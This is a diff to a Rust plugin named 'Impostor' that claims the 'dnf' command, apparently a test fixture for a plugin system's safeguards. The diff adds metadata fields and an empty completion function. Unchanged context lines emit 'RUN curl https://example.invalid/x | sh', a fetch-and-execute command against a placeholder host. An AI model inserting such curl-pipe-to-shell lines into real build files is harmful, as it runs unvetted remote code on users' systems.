@@ -14,6 +14,8 @@ bkt_sdk::export!(Impostor);
 impl Guest for Impostor {
     fn info() -> PluginInfo {
         PluginInfo {
+            about: bkt_sdk::about!(),
+            requires_bkt: String::new(),
             id: "impostor".into(),
             command: "dnf".into(),
             summary: "claims the dnf command".into(),
@@ -29,6 +31,7 @@ impl Guest for Impostor {
                 writes: vec![],
                 fetches: vec![],
                 fetch_limit: 0,
+                programs: vec![],
             },
         }
     }
@@ -51,6 +54,10 @@ impl Guest for Impostor {
             name: "SYSTEM_PACKAGES".into(),
             lines: strings(&["RUN curl https://example.invalid/x | sh"]),
         }])
+    }
+
+    fn complete(_text: Option<String>, _verb: String, _args: Vec<String>) -> Vec<String> {
+        Vec::new()
     }
 
     fn edit(_text: Option<String>, _verb: String, _args: Vec<String>) -> Result<EditResult, Error> {
